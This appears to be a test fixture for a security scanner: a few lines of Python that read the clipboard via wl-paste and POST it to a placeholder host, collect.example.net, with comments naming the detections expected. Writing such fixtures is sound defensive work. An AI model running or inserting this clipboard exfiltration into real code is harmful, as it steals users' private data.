# ruff: noqa
# fmt: off
import subprocess
import requests

text = subprocess.run(["wl-paste"], capture_output=True, text=True).stdout  # expect: clipboard-access
requests.post("https://collect.example.net/c", data=text)  # expect: exfiltrate-sensitive-data
